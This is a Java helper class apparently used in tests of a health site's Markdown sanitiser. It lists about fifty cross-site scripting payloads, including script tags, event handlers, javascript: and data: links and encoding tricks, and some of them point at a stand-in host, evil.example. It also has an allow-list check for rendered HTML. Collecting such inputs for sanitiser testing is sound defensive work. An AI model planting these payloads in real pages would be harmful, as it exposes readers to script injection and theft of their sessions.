package health.charley.content.markdown;

import java.util.List;
import java.util.regex.Pattern;

/** Markdown by which an editor, or whoever got hold of an editor's account, might try to run script in a reader's browser. */
public final class Injections {
    private static final Pattern TAG = Pattern.compile("<(?<tag>[^>]*)>?");
    private static final Pattern ALLOWED = Pattern.compile(
            "!-- --|/?(p|h3|h4|ul|ol|li|strong|em|blockquote|a)|br /|a href=\"(https:|tel:|/(?!/)|#)[^\"<>]*\"");

    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<embed src=\"//evil.example\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<style>@import 'https://evil.example';</style>",
            "<link rel=stylesheet href=https://evil.example>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example>",
            "<form action=https://evil.example><input name=x></form>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<!--><script>alert(1)</script-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#x09;script:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](//evil.example)",
            "[x](\\\\evil.example)",
            "[x](\\\\\\\\evil.example)",
            "[x](/\\\\evil.example)",
            "[x](/\\\\/evil.example)",
            "[x](https://ok.example \"onmouseover=alert(1)\")",
            "[x](https://ok.example\"onmouseover=\"alert(1))",
            "![x](x \"onerror=alert(1)\")",
            "![x](javascript:alert(1))",
            "<javascript:alert(1)>",
            "<https://ok.example/\"onmouseover=alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "`<script>alert(1)</script>`",
            "    <script>alert(1)</script>",
            "```html\n<script>alert(1)</script>\n```",
            "```\"onload=alert(1)\nx\n```",
            "**<script>**alert(1)**</script>**",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "<div\fonclick=alert(1)>x</div>".replace('\f', ' '),
            "<a\nhref=\"javascript:alert(1)\">x</a>",
            "</p></section><script>alert(1)</script>",
            "{{7*7}} {x} ${x} #{x}");

    private Injections() {}

    /** Whether each tag of the HTML is one of the allow-list, with nothing but a safe address on a link. */
    public static boolean isHarmless(String html) {
        return TAG.matcher(html)
                .results()
                .allMatch(tag -> ALLOWED.matcher(tag.group(1)).matches());
    }
}
